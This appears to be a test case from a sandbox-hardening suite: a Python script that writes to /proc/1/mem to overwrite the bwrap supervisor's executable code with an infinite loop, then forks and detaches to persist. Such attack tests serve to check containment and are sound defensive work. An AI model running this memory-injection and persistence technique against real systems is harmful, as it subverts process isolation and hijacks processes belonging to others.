# Tries: to put its own code into process 1 of the box, which belongs to the same user, and live in it.
# Ends: exited, killed, time-out
# Code: any
import os
from attack import *
try:
    maps = [l.split() for l in open("/proc/1/maps")]
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        for fields in maps:
            if "x" in fields[1] and fields[-1].endswith("/bwrap"):
                low, high = (int(n, 16) for n in fields[0].split("-"))
                memory.seek(low)
                # A loop in place of all its code (x86: jump to itself).
                memory.write(b"\xeb\xfe" * ((high - low) // 2))
    held("process 1 runs our code now, inside")
except OSError as e:
    held("process 1", repr(e))
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(30)
